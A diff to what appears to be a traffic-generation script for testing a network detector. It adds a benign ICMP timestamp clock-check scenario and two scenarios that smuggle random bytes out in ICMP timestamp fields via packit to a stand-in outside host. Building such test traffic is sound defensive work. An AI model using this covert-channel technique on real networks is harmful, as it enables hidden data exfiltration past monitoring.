@@ -92,6 +92,11 @@
 #                       outside host, a 1200-byte payload_size module at a fifth server and the
 #                       other outside host (the probes are asked for over the namespace's own
 #                       loopback)
+#   ping_timestamp_admin  an admin's clock checks: clockdiff and clockdiff -o of two servers,
+#                       hping3 --icmp-ts -c 40 of a third, nmap -sn -PP of three hosts
+#   exfil_timestamp_fields  600 random bytes hidden 4 a request in the originate timestamp of
+#                       ICMP timestamp requests (packit -K 13, one id, sequence counting up)
+#   exfil_ts_packit_ids the same with packit's own random id and sequence in each request
 set -uo pipefail
 sc=$1 out=$2
 here=$(cd "$(dirname "$0")" && pwd)
@@ -356,6 +361,24 @@ YML
     done
     sleep 4
     kill "$bb" 2>/dev/null; wait "$bb" 2>/dev/null ;;
+  ping_timestamp_admin)
+    x ih_ws2 timeout 20 clockdiff 10.78.0.40 >/dev/null 2>&1
+    x ih_ws2 timeout 20 clockdiff -o 10.78.0.50 >/dev/null 2>&1
+    x ih_ws2 timeout 30 hping3 -1 --icmp-ts -c 40 -i u300000 10.78.0.41 >/dev/null 2>&1
+    x ih_ws2 timeout 30 nmap -n -sn -PP --max-retries 0 -T4 203.0.113.7 198.51.100.23 10.78.0.40 >/dev/null 2>&1 ;;
+  exfil_timestamp_fields)
+    head -c 600 /dev/urandom | xxd -p -c 4 | head -n 120 > /tmp/ih_ts2
+    n=1
+    while read -r l; do
+      x ih_atk timeout 2 packit -t ICMP -K 13 -N 4242 -Q $n -U $((16#$l)) -k 0 -z 0 -d 203.0.113.7 -c 1 >/dev/null 2>&1
+      n=$((n + 1)); sleep 0.2
+    done < /tmp/ih_ts2 ;;
+  exfil_ts_packit_ids)
+    head -c 400 /dev/urandom | xxd -p -c 4 | head -n 100 > /tmp/ih_ts
+    while read -r l; do
+      x ih_atk timeout 2 packit -t ICMP -K 13 -U $((16#$l)) -k 0 -z 0 -d 203.0.113.7 -c 1 >/dev/null 2>&1
+      sleep 0.2
+    done < /tmp/ih_ts ;;
   *) echo "unknown scenario $sc" >&2; kill "$cap"; exit 2 ;;
 esac
 sleep 2
